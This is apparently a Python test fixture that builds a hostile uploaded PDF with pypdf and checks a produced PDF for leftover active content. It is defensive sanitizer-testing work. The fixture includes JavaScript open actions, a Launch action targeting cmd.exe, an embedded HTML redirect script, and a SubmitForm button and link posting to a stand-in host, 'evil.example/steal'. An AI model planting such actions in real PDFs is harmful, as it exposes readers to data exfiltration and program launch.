"""A hostile uploaded PDF, and the means to look for anything active left in a produced PDF.

``hostile_pdf()`` is a one-page PDF an attacker could upload: JavaScript on open (catalog /OpenAction and the
/JavaScript name tree), a page /AA, a form (AcroForm) with a filled text field (its appearance shows
``FIELD_TEXT``) and a SubmitForm button, a URI link, an ImportData/Launch/GoToR/ResetForm action each on a link,
an embedded HTML file (the /EmbeddedFiles name tree) and a /FileAttachment annotation for it. The page itself
shows ``PAGE_TEXT``.

``active_content(pdf)`` lists every PDF name of ``ACTIVE_NAMES`` that occurs in ``pdf``: found by walking every
object with pypdf (keys and name values, streams included) and by searching the decompressed bytes of every
stream and the file itself.
"""

import contextlib
import io
import re
import zlib
from typing import Final

from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

PAGE_TEXT: Final = "ENCLOSURE PAGE TEXT"
FIELD_TEXT: Final = "FILLED FIELD VALUE"
EVIL_URL: Final = "https://evil.example/steal"

#: What must not survive into the memo's PDF (``/EmbeddedFiles`` is allowed in the archived PDF for memo.json).
ACTIVE_NAMES: Final = (
    "/JS",
    "/JavaScript",
    "/AA",
    "/OpenAction",
    "/SubmitForm",
    "/ResetForm",
    "/ImportData",
    "/URI",
    "/Launch",
    "/GoToR",
    "/AcroForm",
    "/Widget",
    "/FileAttachment",
    "/EmbeddedFiles",
    "/Annots",
)


def _font() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject(
        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
    )
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _rect(*values: float) -> ArrayObject:
    return ArrayObject([FloatObject(v) for v in values])


def hostile_pdf() -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = writer._add_object(_font())
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
    )
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 18 Tf 72 760 Td ({PAGE_TEXT}) Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(content)

    # JavaScript: on opening the document, in the document's name tree, when the page opens.
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(
        _action("/JavaScript", JS=TextStringObject("app.alert('open');"))
    )
    page.add_action(PageTrigger.OPEN, JavaScript("app.alert('page');"))
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('names');")))
    names = writer.root_object.setdefault(NameObject("/Names"), DictionaryObject())
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), script])}
    )

    # An embedded HTML file (the /EmbeddedFiles name tree) and an annotation that opens it.
    writer.add_attachment("invoice.html", b"<html><script>document.location='https://evil.example/'</script>")
    embedded = names["/EmbeddedFiles"]["/Names"][1]
    attachment = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): _rect(500, 780, 520, 800),
            NameObject("/FS"): embedded,
        }
    )

    # A link to a web address, and links that launch a program, import data, open another file, reset.
    link = Link(rect=(72, 700, 300, 720), url=EVIL_URL)
    others = [
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): _rect(72, 600 - 30 * index, 300, 620 - 30 * index),
                NameObject("/A"): action,
            }
        )
        for index, action in enumerate(
            [
                _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")),
                _action("/ImportData", F=TextStringObject("data.fdf")),
                _action(
                    "/GoToR",
                    F=TextStringObject("other.pdf"),
                    D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
                ),
                _action("/ResetForm"),
            ]
        )
    ]

    # A form: a filled text field (its appearance shows FIELD_TEXT) and a button that submits the form.
    appearance = StreamObject()
    appearance._data = f"BT /Helv 12 Tf 2 6 Td ({FIELD_TEXT}) Tj ET".encode()
    appearance.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): _rect(0, 0, 200, 20),
            NameObject("/Resources"): DictionaryObject(
                {NameObject("/Font"): DictionaryObject({NameObject("/Helv"): font})}
            ),
        }
    )
    field = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("amount"),
            NameObject("/V"): TextStringObject(FIELD_TEXT),
            NameObject("/Rect"): _rect(72, 400, 272, 420),
            NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(appearance)}),
            NameObject("/AA"): DictionaryObject(
                {NameObject("/K"): _action("/JavaScript", JS=TextStringObject("event.value='x';"))}
            ),
        }
    )
    button = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/Ff"): NumberObject(1 << 16),  # push button
            NameObject("/T"): TextStringObject("send"),
            NameObject("/Rect"): _rect(72, 360, 172, 380),
            NameObject("/A"): _action(
                "/SubmitForm", F=TextStringObject(EVIL_URL), Flags=NumberObject(4)
            ),  # as HTML form data
        }
    )
    annotations = [writer._add_object(a) for a in (attachment, link, *others, field, button)]
    page[NameObject("/Annots")] = ArrayObject(annotations)
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([annotations[-2], annotations[-1]])}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _walk_names(reader: PdfReader) -> set[str]:
    """Every dictionary key and name value of every object in the file."""
    found: set[str] = set()
    stack: list[object] = [reader.trailer]
    for generation, numbers in reader.xref.items():
        stack.extend(IndirectObject(int(n), int(generation), reader) for n in numbers)
    stack.extend(IndirectObject(int(n), 0, reader) for n in reader.xref_objStm)
    seen: set[tuple[int, int]] = set()
    while stack:
        node = stack.pop()
        if isinstance(node, IndirectObject):
            if (node.idnum, node.generation) in seen:
                continue
            seen.add((node.idnum, node.generation))
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            for key, value in dict.items(node):
                found.add(str(key))
                stack.append(value)
        elif isinstance(node, ArrayObject):
            stack.extend(node)
        elif isinstance(node, NameObject):
            found.add(str(node))
    return found


def _decompressed(pdf: bytes, reader: PdfReader) -> bytes:
    """The file with every stream's decoded data appended (content, object and cross-reference streams)."""
    parts = [pdf]
    for generation, numbers in reader.xref.items():
        for number in numbers:
            obj = reader.get_object(IndirectObject(int(number), int(generation), reader))
            if isinstance(obj, StreamObject):
                try:
                    parts.append(obj.get_data())
                except Exception:  # a stream pypdf cannot decode: look at its raw bytes too
                    parts.append(obj._data)
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", pdf, re.DOTALL):  # e.g. object streams
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompress(match.group(1)))
    return b"\n".join(parts)


def active_content(pdf: bytes, *, allow: tuple[str, ...] = ()) -> set[str]:
    """The names of ``ACTIVE_NAMES`` (minus ``allow``) present in ``pdf``, by either way of looking."""
    reader = PdfReader(io.BytesIO(pdf))
    names = _walk_names(reader)
    raw = _decompressed(pdf, reader)
    found = set()
    for name in ACTIVE_NAMES:
        if name in allow:
            continue
        pattern = re.escape(name.encode()) + rb"(?![A-Za-z0-9#_.-])"
        if name in names or re.search(pattern, raw):
            found.add(name)
    return found
